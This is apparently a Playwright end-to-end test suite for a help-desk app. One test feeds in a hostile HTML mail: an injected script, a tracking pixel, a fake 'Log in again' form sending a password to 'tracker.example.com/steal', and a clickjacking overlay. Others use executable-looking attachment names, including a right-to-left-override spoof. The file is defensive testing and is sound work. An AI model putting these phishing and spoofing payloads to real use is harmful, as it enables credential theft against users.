import type { Page } from '@playwright/test'
import { newId } from '../../../shared/domain/ids.ts'
import { uploadFile } from '../../support/hub-files.ts'
import { expect, openBox, PASSWORD, rowsWhere, test } from '../../support/house.ts'
import type { House } from '../../support/house.ts'
import { longQuotingMails } from '../security/support/quoting-mails.ts'

test.describe.configure({ mode: 'default', timeout: 150_000 })

const id = (): string => newId(Date.now(), Math.random)

/** Nothing stands beyond the right edge of the window. */
const fitsWindow = (page: Page): Promise<boolean> =>
  page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)

/** A ticket with everything about it chosen by the test. */
async function put(
  house: House,
  given: {
    readonly name: string
    readonly subject: string
    readonly tags?: readonly string[]
    readonly html?: string
    readonly fileName?: string
  },
): Promise<void> {
  const [customerId, ticketId] = [id(), id()]
  await house.jonas.push([
    {
      name: 'customer.create',
      args: {
        customerId,
        name: given.name,
        organisationId: null,
        jobTitle: null,
        language: null,
        timeZone: null,
        preferredChannel: null,
        labels: (given.tags ?? []).slice(0, 500),
        facts: '',
        contactPoints: [],
      },
    },
  ])
  const content = new Uint8Array([77, 90, 144, 0])
  const who = { url: house.hub.url, email: 'jonas@example.com', password: PASSWORD }
  const attachments =
    given.fileName === undefined
      ? []
      : [
          {
            id: id(),
            fileName: given.fileName,
            mediaType: 'application/octet-stream',
            sizeBytes: content.byteLength,
            sha256: await uploadFile(who, customerId, content),
            contentId: null,
          },
        ]
  const thread = {
    id: id(),
    kind: 'service',
    state: 'open',
    priority: 'normal',
    teamId: null,
    assigneeId: null,
  }
  const message = {
    id: id(),
    direction: 'in',
    from: { name: null, address: 'someone@example.com' },
    to: [],
    cc: [],
    bodyText: 'What was written',
    bodyHtml: given.html ?? null,
    attachments,
  }
  await house.jonas.push([
    {
      name: 'ticket.create',
      args: {
        ticketId,
        customerId,
        subject: given.subject,
        channel: 'email',
        tags: given.tags ?? [],
        fields: {},
        threads: [thread],
        message,
        note: null,
      },
    },
  ])
}

test('a customer without a name can be found, read and answered', async ({ house, sit }) => {
  await put(house, { name: '', subject: 'Nobody wrote this' })
  const { desk, window, complaints } = await sit()
  await desk.show('all-open')
  await desk.openTicket('Nobody wrote this')
  const customer = window.getByRole('region', { name: 'Customer 360' })
  await expect(customer.getByRole('heading', { level: 2 })).toHaveText('No name yet')
  await desk.reply('Hello, how may we call you?')
  const words = 'Hello, how may we call you?'
  await expect
    .poll(async () => rowsWhere(await house.rows(), 'messages', { bodyText: words }).length, {
      timeout: 40_000,
    })
    .toBe(1)
  expect(complaints).toEqual([])
})

test('a subject of 500 signs and a thousand tags leave room for everything else', async ({ house, sit }) => {
  const subject = `Endless ${'Donaudampfschifffahrtsgesellschaft'.repeat(15)}`.slice(0, 500)
  const tags = Array.from({ length: 1_000 }, (_, index) => `tag-${index}`)
  await put(house, { name: 'Long Names', subject, tags })
  const { desk, window, complaints } = await sit()
  await desk.show('all-open')
  await desk.rows().filter({ hasText: 'Endless' }).first().click()
  await expect(desk.conversation.getByRole('heading', { level: 1 })).toContainText('Endless')
  expect(await fitsWindow(window)).toBe(true)
  const head = await desk.conversation.locator('header').first().boundingBox()
  expect(head?.height).toBeLessThan(260)
  // The last of the thousand can be reached too.
  await desk.conversation.getByRole('button', { name: /960 more tags/ }).click()
  await expect(window.getByRole('menuitem', { name: 'Remove tag tag-999' })).toBeAttached()
  // Keys belong to the menu once it has the focus.
  await expect(window.locator('[role=menu]:focus, [role=menu] :focus')).toHaveCount(1)
  await window.keyboard.press('Escape')
  await expect(window.getByRole('menu')).toHaveCount(0)
  await expect(await openBox(desk, 'reply')).toBeVisible()
  await window.screenshot({ path: 'out/e2e/bad-days/long-subject.png' })
  expect(complaints).toEqual([])
})

const HUGE_TABLE = `<table width="4000">${`<tr>${'<td width="400">cell</td>'.repeat(60)}</tr>`.repeat(400)}</table>`
const HOSTILE = `
  <script>parent.hacked = 1</script><img src="https://tracker.example.com/pixel.png?who=1" width="1" height="1">
  <form action="https://tracker.example.com/steal"><input name="password"><button>Log in again</button></form>
  <div style="position:fixed;inset:0;background:red" onclick="parent.hacked=1">Your session has ended</div>
  <p>Kind regards</p>${HUGE_TABLE}`

test('a hostile mail runs nothing, sends nothing and stays inside its frame', async ({ house, sit }) => {
  await put(house, { name: 'Eve Adams', subject: 'Urgent update', html: HOSTILE })
  const { app, desk, window, complaints } = await sit()
  const asked: string[] = []
  app.context().on('request', request => asked.push(request.url()))
  await desk.show('all-open')
  await desk.openTicket('Urgent update')
  const frame = window.frameLocator('iframe').first()
  await expect(frame.getByText('Kind regards')).toBeVisible({ timeout: 20_000 })
  await expect(frame.locator('form, input, button, script')).toHaveCount(0)
  await expect(desk.conversation.getByText(/picture/i).first()).toBeVisible()
  expect(await window.evaluate(() => 'hacked' in window)).toBe(false)
  expect(asked.filter(url => url.includes('tracker.example.com'))).toEqual([])
  expect(await fitsWindow(window)).toBe(true)
  await desk.reply('We will look into it.')
  await window.screenshot({ path: 'out/e2e/bad-days/hostile-mail.png' })
  expect(complaints).toEqual([])
})

test('a long mail shows what is new, and what it repeats when asked', async ({ house, sit }) => {
  const [{ html } = { html: '' }] = longQuotingMails
  await put(house, { name: 'Ana Ruiz', subject: 'All of it again', html })
  const { desk, window, complaints } = await sit()
  await desk.show('all-open')
  await desk.openTicket('All of it again')
  const isShown = async (words: string): Promise<boolean> => {
    const texts = window.frames().map(frame => frame.locator('body').innerText({ timeout: 5_000 }))
    const told = await Promise.allSettled(texts)
    return told.some(each => each.status === 'fulfilled' && each.value.includes(words))
  }
  const fold = desk.conversation.getByRole('button', { name: '… quoted' })
  await expect(fold).toHaveAttribute('aria-expanded', 'false')
  await expect.poll(() => isShown('own line 0 ')).toBe(true)
  await fold.scrollIntoViewIfNeeded()
  await expect.poll(() => isShown('own line 899 ')).toBe(true)
  expect(await isShown('earlier line')).toBe(false)
  await fold.click()
  const folding = desk.conversation.getByRole('button', { name: 'hide quoted' })
  await expect.poll(() => isShown('earlier line 0 '), { timeout: 30_000 }).toBe(true)
  // What unfolds stands below: nobody is taken to its end.
  await expect(folding).toBeInViewport()
  await window.screenshot({ path: 'out/e2e/bad-days/long-mail-unfolded.png' })
  await folding.click()
  await expect.poll(() => isShown('earlier line')).toBe(false)
  expect(complaints).toEqual([])
})

test('a file named like a program is never opened, and saved only after a warning', async ({
  house,
  sit,
}) => {
  await put(house, { name: 'Mal Ory', subject: 'The invoice', fileName: 'invoice.pdf.exe' })
  const { app, desk, window } = await sit()
  const downloads: string[] = []
  await app.evaluate(({ session }) => {
    const seen = globalThis as unknown as { saved?: string[] }
    seen.saved = []
    session.defaultSession.on('will-download', (event, item) => {
      event.preventDefault()
      seen.saved?.push(item.getFilename())
    })
  })
  await desk.show('all-open')
  await desk.openTicket('The invoice')
  await desk.conversation.getByRole('button', { name: /invoice\.pdf\.exe/ }).click()
  const dialog = window.getByRole('dialog')
  await expect(dialog.getByRole('alert')).toContainText('can run as a program', { timeout: 20_000 })
  await dialog.getByRole('button', { name: 'Leave it' }).click()
  await expect(dialog).toHaveCount(0)
  downloads.push(...(await app.evaluate(() => (globalThis as unknown as { saved?: string[] }).saved ?? [])))
  expect(downloads).toEqual([])
})

test('a file named like a program is warned of while it is attached, before anything leaves', async ({
  house,
  sit,
}) => {
  await put(house, { name: 'Ida Berg', subject: 'The tool you promised' })
  const { cable, desk, window, complaints } = await sit()
  await desk.show('all-open')
  await desk.openTicket('The tool you promised')
  cable.pull()
  const files = ['notes.txt', 'setup.exe', 'photo\u202Egnp.scr'].map(name => ({
    name,
    mimeType: 'application/octet-stream',
    buffer: Buffer.from('MZ'),
  }))
  await openBox(desk, 'reply')
  const warning = desk.conversation.getByText(/can run as (?:a program|programs)/)
  const input = desk.conversation.locator('input[type=file]')
  await input.setInputFiles(files.slice(0, 1))
  await expect(desk.conversation.getByRole('button', { name: 'Remove notes.txt' })).toBeVisible()
  await expect(warning).toHaveCount(0)
  await input.setInputFiles(files.slice(1))
  await expect(warning).toHaveText(/^2 of these files/)
  await desk.conversation.getByRole('button', { name: 'Remove setup.exe' }).click()
  await expect(warning).toHaveText(/^This file/)
  await window.keyboard.press('Escape')
  await window.keyboard.press('c')
  const dialog = window.getByRole('dialog', { name: 'New ticket' })
  await dialog.locator('input[type=file]').setInputFiles(files.slice(1, 2))
  await expect(dialog.getByText(/can run as a program/)).toBeVisible()
  expect(complaints).toEqual([])
})

test('a field runs the way of what is typed into it', async ({ house, sit }) => {
  await put(house, { name: 'نور الحسن', subject: 'أين طلبي؟' })
  const { desk, window } = await sit()
  await desk.show('all-open')
  await desk.openTicket('أين طلبي؟')
  await desk.leaveField()
  await desk.press('c')
  const field = window.getByRole('dialog', { name: 'New ticket' }).getByRole('textbox', { name: 'Subject' })
  await field.fill('متى يصل طلبي رقم 4711؟')
  await expect(field).toHaveCSS('unicode-bidi', 'plaintext')
  await expect(field).toHaveCSS('text-align', 'start')
})
